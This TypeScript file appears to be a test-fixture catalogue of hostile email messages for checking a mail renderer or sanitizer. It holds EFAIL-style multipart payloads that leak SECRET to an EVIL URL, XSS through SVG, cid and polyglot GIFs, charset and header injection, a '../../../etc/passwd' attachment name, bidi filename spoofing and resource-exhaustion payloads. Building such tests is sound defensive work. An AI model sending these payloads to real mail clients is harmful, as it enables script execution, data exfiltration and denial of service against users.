/** Letters that lie by what is around the text: parts, names, charsets, data addresses, and sizes that cost. */
import { type Attack, attacks, ending, fill, multipart, part } from "./attack.ts";

const end = `<p>${ending}</p>`;
const html = (content: string) => part("text/html; charset=utf-8", content + end);
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script><image href="EVIL"/></svg>';
const gifAndScript = "GIF89a/*\x01\x00\x01\x00*/=1;RUN;<script>RUN</script>";

const whole = (name: string, mime: string, more: Partial<Attack> = {}): Attack => ({ name, mime, ...more });
const attached = (type: string, fileName: string, content: string) =>
  multipart(
    "mixed",
    html("See what is attached."),
    part(`${type}; name="${fileName}"`, content, `Content-Disposition: attachment; filename="${fileName}"\r\n`),
  );
const inline = (text: string, type: string, content: string) =>
  multipart("related", html(text), part(type, content, "Content-ID: <it@evil>\r\nContent-Disposition: inline\r\n"));

export const parts: readonly Attack[] = [
  whole(
    "parts: a secret between two halves of a picture (EFAIL)",
    multipart(
      "mixed",
      part("text/html", '<img src="EVIL?'),
      part("text/plain", "SECRET"),
      part("text/html", `">${end}`),
    ),
  ),
  whole(
    "parts: a secret between two halves of a link (EFAIL)",
    multipart(
      "mixed",
      part("text/html", "<a href='EVIL?"),
      part("text/html", "<b>SECRET</b>"),
      part("text/html", `'>x</a>${end}`),
    ),
  ),
  whole(
    "parts: a style for the next part (EFAIL)",
    multipart("mixed", part("text/html", "<style>b[title^=S]{background:url(EVIL)}"), html('<b title="SECRET">x</b>')),
  ),
  whole("parts: a comment left open", multipart("mixed", part("text/html", "<!--"), html("--><script>RUN</script>"))),
  whole("parts: SVG as a picture of the text", inline('<img src="cid:it@evil">', "image/svg+xml", svg)),
  whole("parts: HTML as a picture of the text", inline('<img src="cid:it@evil">', "image/png", "<script>RUN</script>")),
  whole("parts: an iframe by cid", inline('<iframe src="cid:it@evil"></iframe>', "text/html", "<script>RUN</script>")),
  whole(
    "parts: a sheet by cid",
    inline(
      '<link rel=stylesheet href="cid:it@evil"><style>@import "cid:it@evil"</style>',
      "text/css",
      "*{background:url(EVIL)}",
    ),
  ),
  whole(
    "parts: a cid that breaks out",
    inline(
      `<img src='cid:it@evil" onerror="RUN'><p style='background:url("cid:it@evil&#92;");background:url(EVIL)")'>x</p>`,
      "image/gif",
      gifAndScript,
    ),
  ),
  whole(
    "parts: a picture that is a script",
    inline('<img src="cid:it@evil"><script src="cid:it@evil"></script>', "image/gif", gifAndScript),
  ),
  whole("parts: multipart/related that begins with SVG", multipart("related", part("image/svg+xml", svg), html("x"))),
  whole(
    "parts: alternative with what nobody knows",
    multipart(
      "alternative",
      part("text/plain", "x"),
      html("<script>RUN</script>"),
      part("text/x-amp-html", "<script>RUN</script>"),
    ),
  ),
  whole("attached: HTML", attached("text/html", "page.html", "<script>RUN</script>")),
  whole("attached: SVG", attached("image/svg+xml", "picture.svg", svg)),
  whole("attached: a GIF that is HTML", attached("image/gif", "picture.gif", gifAndScript)),
  whole(
    "attached: XML with a style sheet",
    attached(
      "text/xml",
      "x.xml",
      '<?xml-stylesheet href="EVIL"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
    ),
  ),
  whole(
    "attached: a name that breaks out",
    attached("application/octet-stream", "x'><img src=x onerror=RUN>.txt", "x"),
  ),
  whole(
    "attached: a name that turns",
    attached("application/octet-stream", "=?utf-8?B?aW52b2ljZeKArmZkcC5leGU=?=", "MZ"),
  ),
  whole("attached: a way out of the folder", attached("application/octet-stream", "../../../etc/passwd", "x")),
  whole("attached: a type that breaks out", attached("text/html;x=y", "x.html", "<script>RUN</script>")),
  whole("a header: a subject with tags", html("x"), { subject: "<img src=x onerror=RUN><script>RUN</script>" }),
  whole("a header: a subject that turns", html("x"), { subject: "=?utf-8?B?4oCudHNlVA==?= =?utf-8?B?4oCu?=" }),
  whole("a header: a name with tags", html("x"), { from: '"<img src=x onerror=top.hostile=[1]>" <mallory@evil.test>' }),
  whole("a header: a name that is an address", html("x"), { from: '"security@example.test" <mallory@evil.test>' }),
  whole("a header: an address with tags", html("x"), { from: '"<script>top.hostile=[1]</script>"@evil.test' }),
  whole("a charset: UTF-7", part("text/html; charset=utf-7", `+ADw-script+AD4-RUN+ADw-/script+AD4-${end}`)),
  whole(
    "a charset: UTF-7 in a meta",
    part("text/html", `<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-${end}`),
  ),
  whole(
    "a charset: UTF-16 that says UTF-8",
    part("text/html; charset=utf-16le", Buffer.from(fill(`<script>RUN</script>${end}`), "utf16le")),
  ),
  whole(
    "a charset: ISO-2022-JP",
    part(
      "text/html; charset=iso-2022-jp",
      Buffer.concat([Buffer.from(fill('<img alt="\x1b$B"><img alt="" src=x onerror=RUN>')), Buffer.from(end)]),
    ),
  ),
  whole("a charset: x-user-defined", part("text/html; charset=x-user-defined", `<script>RUN</script>${end}`)),
  whole(
    "a charset: overlong UTF-8",
    part(
      "text/html; charset=utf-8",
      Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(fill(`script>RUN</script>${end}`))]),
    ),
  ),
  whole(
    "a charset: HZ",
    part("text/html; charset=hz-gb-2312", `<a title="~{"><img src=x onerror=RUN title="~}">${end}`),
  ),
  whole(
    "an encoding: quoted-printable that hides",
    fill(
      `Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<scr=\r\nipt>RUN</scr=\r\nipt>=3Cimg src=3Dx onerror=3DRUN=3E${end}\r\n`,
    ),
  ),
  whole(
    "plain text with tags",
    part(
      "text/plain",
      `<script>RUN</script> <img src=x onerror=RUN> javascript:RUN https://evil.test/"onmouseover=RUN\n${ending}`,
    ),
  ),
  whole("format=flowed with tags", part("text/plain; format=flowed; delsp=yes", `<script> \nRUN</script>\n${ending}`)),
  whole("enriched text", part("text/enriched", `<bold>x</bold><param>RUN</param>\n${ending}`)),
];

export const data: readonly Attack[] = [
  ...attacks("data", {
    SVG: `<img src="data:image/svg+xml,${encodeURIComponent(svg)}">`,
    "SVG with a type that lies": `<img src="data:image/png;base64,${Buffer.from(svg).toString("base64")}">`,
    "HTML with a type that lies": `<img src="data:image/png,<script>RUN</script>">`,
    "a type with parameters": `<img src="data:image/png;x=y,text/html,<script>RUN</script>">`,
    "a picture that is never whole": `<img src="data:image/gif;base64,R0lGODlh////////">`,
    "a picture of 65,000 by 65,000": `<img src="data:image/gif;base64,R0lGODlh6P3o/YAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">`,
    "a style sheet": `<style>@import "data:text/css,*{background:url(EVIL)}";</style>`,
  }),
  ...attacks("turning", {
    "a link that reads backwards": `<a class=click href="EVIL">\u202Etset.elpmaxe//:sptth</a>`,
    "a link with nothing between": `<a class=click href="EVIL">https://exa\u200bmple.test/</a>`,
    "never ended": `\u202E\u2067\u2068\u202D x`,
    "ten thousand marks": `<p>${"x\u0301\u0302\u0303".repeat(3000)}</p>`,
    "an override by markup": `<bdo dir=rtl>x</bdo><p style="unicode-bidi:bidi-override;direction:rtl">x</p>`,
  }),
];

/** These cost, where something in the way is careless. */
export const heavy: readonly Attack[] = attacks("heavy", {
  deep: "<div>".repeat(20_000),
  "deep tables": "<table><tr><td>".repeat(3_000),
  "deep lists and fonts": "<ul><li><font>".repeat(5_000),
  "wrong nesting": "<b><i><a href=x><p>".repeat(2_000),
  "a hundred thousand cells": `<table>${"<td>x".repeat(100_000)}</table>`,
  "a hundred thousand styles": "<style>".repeat(100_000),
  "a hundred thousand line breaks that do not end": "<br".repeat(100_000),
  "a long word": "a.".repeat(300_000),
  "a long address": `${"a".repeat(400_000)}@`,
  "a long attribute": `<p title="${"x".repeat(700_000)}">x</p>`,
  "many attributes": `<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=x`).join(" ")}>x</p>`,
  "many selectors": `<style>${Array.from({ length: 5_000 }, (_, i) => `div:has(.a${i} ~ .b) > * ~ *{color:red}`).join("")}</style>${"<div><p>x</p></div>".repeat(300)}`,
  "shadows and filters":
    '<p style="filter:blur(999px) drop-shadow(0 0 999px red);text-shadow:0 0 999px red">x</p>'.repeat(30),
  "endless movement": `<style>@keyframes x{to{transform:rotate(1turn)}}p{animation:x 1ms infinite}</style>${"<p>x</p>".repeat(200)}`,
  gradients: `<div style="height:5000px;background:repeating-conic-gradient(red 0 0.001deg,blue 0 0.002deg)">x</div>`,
  "comments that do not end": "<!--".repeat(100_000),
  "quotes that do not end": '<p title="'.repeat(50_000),
  entities: "&notanentity".repeat(60_000),
  "a cid in every picture": '<img src="cid:none@x">'.repeat(3_000),
});
